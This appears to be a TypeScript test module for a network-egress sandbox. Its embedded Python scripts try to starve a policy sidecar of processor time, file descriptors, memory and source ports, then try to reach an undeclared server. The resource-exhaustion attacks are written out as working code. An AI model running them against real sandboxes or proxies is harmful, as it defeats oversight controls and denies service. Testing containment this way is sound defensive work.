/** Taking from the sidecar what it lives on: after that a way would be open if it were the sidecar alone that closes it. */
import type { Attempt, Places } from '../attempt.js';

/** Says its marker to a server that no policy declares: `host payload seconds`, the last arguments of every program here. */
const REACH = `
import os, resource, socket, sys, threading, time
_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
declared, resolver, host, payload, seconds = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4].encode(), float(sys.argv[5])
def reach():
    try:
        with socket.create_connection((host, 8080), seconds) as s:
            s.sendall(payload); s.settimeout(seconds)
            print(s.recv(4096).decode("latin1") or "closed")
    except OSError as error: print("timed out" if isinstance(error, socket.timeout) else "errno " + __import__("errno").errorcode.get(error.errno, "?"))
`;

/** More than one sidecar holds at a time, each of which wants a process's file descriptors, memory and turn. */
const CONNECTIONS = `${REACH}
address = socket.getaddrinfo(declared, 80, socket.AF_INET)[0][4]
held = []
try:
    for _ in range(10100):
        s = socket.socket(); s.setblocking(False); s.connect_ex(address); held.append(s)
except OSError: pass
reach()
`;

/** Heads of requests that never end: more bytes together than the sidecar may have. */
const MEMORY = `${REACH}
address = socket.getaddrinfo(declared, 80, socket.AF_INET)[0][4]
head = b"GET / HTTP/1.1\\r\\n" + b"".join(b"X-%d: %s\\r\\n" % (n, b"a" * 1000) for n in range(60))
held, end = [], time.time() + 20
def fill():
    while time.time() < end and len(held) < 5000:
        try:
            s = socket.create_connection(address, 2); s.settimeout(2); s.sendall(head); held.append(s)
        except OSError: return
fillers = [threading.Thread(target=fill) for _ in range(4)]
for each in fillers: each.start()
for each in fillers: each.join()
reach()
`;

/** Every processor that the container gets. */
const PROCESSOR = `${REACH}
spinning = []
for _ in range(8):
    pid = os.fork()
    if pid == 0:
        while True: pass
    spinning.append(pid)
try: reach()
finally:
    for pid in spinning: os.kill(pid, 9)
`;

/** A question from every source port: flows that the kernel tracks, from whose ports the sidecar asks as well. */
const PORTS = `${REACH}
question = b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7outside\\4test\\0\\0\\1\\0\\1"
for port in range(32768, 61000):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind(("", port)); s.sendto(question, (resolver, 53))
    except OSError: pass
reach()
`;

function starving(id: string, title: string, script: string): Attempt {
  return {
    id: `starved-${id}`,
    title,
    family: 'starvation',
    layer: 'L1 capture',
    // A sidecar starves alike whatever is switched off around it.
    variants: ['full', 'control'],
    probe: ({ declaredHost, dns, upstream, seconds }: Places, marker) => ({
      kind: 'command',
      argv: ['python3', '-c', script, declaredHost, dns.v4, upstream.v4, `GET /${marker} HTTP/1.1\r\n\r\n`, `${seconds}`],
    }),
    reached: { kind: 'server', server: 'upstream' },
  };
}

/** Tried one after the other. */
export const starvation: readonly Attempt[] = [
  starving('processor', 'every processor busy', PROCESSOR),
  starving('ports', 'names asked from every source port', PORTS),
  starving('connections', 'more connections than a sidecar holds', CONNECTIONS),
  starving('memory', 'heads of requests that never end, more than its memory holds', MEMORY),
];
